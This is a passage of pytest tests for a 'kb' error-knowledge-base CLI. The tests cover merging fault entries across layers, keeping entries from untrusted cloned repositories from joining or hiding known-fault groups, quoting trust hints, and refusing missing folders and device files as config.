    assert taken.exit_code == 1
    assert "`kb --layer team edit team-lease`" in taken.stderr and "`kb edit" not in taken.stderr


def test_one_message_two_layers_hold_is_one_of_their_faults_not_each_layers_known_fault(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A trusted project's entry on the CrossEntropy label message, 6 points behind the seed's: each
    layer was sure of its own, and the merged answer (kb run's too) named the seed as the known
    fault. Within one knowledge base the same two entries are "one of 2 known faults"."""
    project = tmp_path / "repo"
    (project / ".kb" / "data").mkdir(parents=True)
    text = entry_file("label-map-stale", "IndexError: Target 7 is out of bounds.", "Rebuild labels.json.")
    (project / ".kb" / "data" / "label-map-stale.md").write_text(text)
    monkeypatch.chdir(project)
    assert kb("trust", "--yes").exit_code == 0
    answer = json.loads(
        kb_process("search", "IndexError: Target 7 is out of bounds.", "--json", cwd=project).stdout
    )
    first, second = answer["results"][:2]
    assert {first["key"], second["key"]} == {"cross-entropy-label-out-of-range", "label-map-stale"}
    assert not first["confident"] and not second["confident"]
    assert [one["key"] for one in answer["one_of"]] == [first["key"], second["key"]]


@pytest.mark.parametrize(
    ("symptom", "trusted_group"),
    [
        # alone, the seeds' answer: "no known fault for sure"; the stranger made it "one of 2"
        ("KeyError: 'lr'", []),
        # alone, one of the three seeds that raise it; the stranger's entry, first, hid them
        (
            "RuntimeError: CUDA error: device-side assert triggered",
            [
                "cuda-device-side-assert",
                "cross-entropy-label-out-of-range",
                "vocab-size-num-embeddings-mismatch",
            ],
        ),
    ],
)
def test_an_untrusted_folder_neither_joins_nor_hides_one_of_these_known_faults(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, symptom: str, trusted_group: list[str]
) -> None:
    """A cloned repository's `.kb/` entry on a message seeds share was named "one of these known
    faults" (its check not even offered), or, ranked first, left the seeds' own "one of these" out."""
    project = tmp_path / "clone"
    (project / ".kb" / "data").mkdir(parents=True)
    (project / ".kb" / "data" / "stranger.md").write_text(
        entry_file("stranger", symptom, "Run their script.")
    )
    alone = json.loads(kb_process("search", symptom, "--json", cwd=tmp_path).stdout)
    answer = json.loads(kb_process("search", symptom, "--json", cwd=project).stdout)
    assert "stranger" in [result["key"] for result in answer["results"]]
    assert [one["key"] for one in answer["one_of"]] == [one["key"] for one in alone["one_of"]]
    assert sorted(one["key"] for one in answer["one_of"]) == sorted(trusted_group)
    # the group is the ranking's, however few results are shown (`-n 1` keeps it whole)
    one = json.loads(kb_process("search", "-n", "1", symptom, "--json", cwd=project).stdout)
    assert sorted(found["key"] for found in one["one_of"]) == sorted(trusted_group)


def test_the_trust_hint_for_a_folder_whose_path_has_a_space_runs_as_printed(tmp_path: Path) -> None:
    """`kb trust /home/me/my project/.kb` was printed unquoted: pasted, it named two folders."""
    project = tmp_path / "my project"
    (project / ".kb" / "data").mkdir(parents=True)
    text = entry_file("feature-cache", PROJECT_FAULT, "Rebuild the cache.")
    (project / ".kb" / "data" / "feature-cache.md").write_text(text)
    plain = kb_process("search", PROJECT_FAULT, cwd=project).stdout
    hint = next(line for line in plain.splitlines() if "kb trust" in line)
    command = shlex.split(hint.split("kb trust ", 1)[1].rstrip(")"))
    assert command == [str(project / ".kb")]
    trusted = kb_process("trust", "--yes", *command, cwd=project)
    assert trusted.returncode == 0, trusted.stderr


def test_kb_layers_says_a_database_in_a_missing_folder_does_not_answer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It said the layer answered, "not set up yet: its first command creates and seeds it", while
    every command refused the folder that is not there; with KB_SEED=0 "and seeds it" was not so."""
    config = Path(os.environ["XDG_CONFIG_HOME"]) / "kb" / "config.toml"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text(f'[[layer]]\nname = "team"\ndatabase = "{tmp_path}/nodir/team.db"\n')
    state = {s["name"]: s for s in json.loads(kb("layers", "--json").stdout)["layers"]}["team"]
    assert state["answers"] is False
    assert state["problem"] == f"the folder {tmp_path}/nodir does not exist; create it first, or fix the path"
    config.write_text(f'[[layer]]\nname = "team"\ndatabase = "{tmp_path}/team.db"\n')
    monkeypatch.setenv("KB_SEED", "0")
    assert "not set up yet: its first command creates it empty" in kb("layers").stdout


def test_kb_trust_trusts_a_projects_kb_folder_named_by_its_repository_and_nothing_else(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`kb trust .` in a repository said "trusting" its root and listed it, and its .kb/ stayed
    untrusted; `kb trust --revoke` of a folder never trusted said "no longer trusting" it."""
    repo = tmp_path / "repo"
    (repo / ".kb" / "data").mkdir(parents=True)
    monkeypatch.chdir(repo)
    folder = str((repo / ".kb").resolve())
    for named in (".", ".kb/data"):
        trusted = kb("trust", "--yes", named)
        assert trusted.exit_code == 0 and trusted.stdout.startswith(f"trusting {folder} as its files are now")
    assert kb("trust", "--list").stdout == f"{folder}\n"
    elsewhere = kb("trust", "--yes", str(tmp_path))
    assert elsewhere.exit_code == 1 and "is not a project's .kb/ folder, nor holds one" in elsewhere.stderr
    assert kb("trust", "--revoke", ".").stdout == f"no longer trusting {folder}\n"
    assert kb("trust", "--revoke", ".").stdout == f"{folder} was not trusted; nothing to revoke\n"


def test_a_write_to_a_folder_layer_whose_folder_is_gone_makes_no_folder() -> None:
    """`kb layers` said the layer DOES NOT ANSWER (its folder does not exist), while `kb copy --to` it
    said "copied" and made the folder a typo in the config named."""
    config = Path(os.environ["XDG_CONFIG_HOME"]) / "kb" / "config.toml"
    config.parent.mkdir(parents=True, exist_ok=True)
    gone = Path(os.environ["XDG_CONFIG_HOME"]).parent / "gone"
    config.write_text(f'[[layer]]\nname = "gone"\nfolder = "{gone}"\n')
    copied = kb("copy", "read-csv-encoding", "--to", "gone")
    assert copied.exit_code == 1 and f"the gone layer's folder {gone} does not exist" in copied.stderr
    assert not gone.exists()


def test_a_config_that_is_a_device_is_refused_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """KB_CONFIG=/dev/zero: kb read it to its end, which never came, its memory growing."""
    monkeypatch.setenv("KB_CONFIG", "/dev/zero")
    listed = kb("layers")
    assert listed.exit_code == 1 and listed.stderr == (
        "kb: /dev/zero is not kb's config: not a regular file, or over 512000 bytes\n"
    )


def test_kb_trust_list_refuses_what_would_change_trust_rather_than_ignore_it(tmp_path: Path) -> None:
    """`kb trust --revoke --list FOLDER` listed and exited 0: the revoke the person asked for never
    happened, and nothing said so."""
    for extra in (["--revoke"], [str(tmp_path)], ["--yes"]):
        result = kb("trust", "--list", *extra)
        assert result.exit_code == 2 and result.stderr.startswith("kb: --list lists the folders you trust")
